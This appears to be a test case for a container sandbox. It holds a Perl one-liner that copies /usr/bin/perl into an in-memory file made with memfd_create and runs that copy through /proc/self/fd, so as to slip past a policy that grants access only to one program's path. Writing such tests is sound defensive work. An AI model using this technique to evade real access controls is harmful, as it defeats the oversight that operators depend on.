# tries: reach what only one program may, by a copy of it in memory
# because: the host's kernel says which file a process runs, and a copy is another
# levels: container
# from: /usr/bin/perl
ask_file
asks perl -e 'my $n = "m"; my $fd = syscall(319, $n, 0); open(my $o, ">&=", $fd); binmode $o; open(my $i, "<", "/usr/bin/perl"); binmode $i; local $/; my $t = <$i>; syswrite($o, $t); $^F = 99; exec "/proc/self/fd/$fd", "/tmp/ask.pl"' 
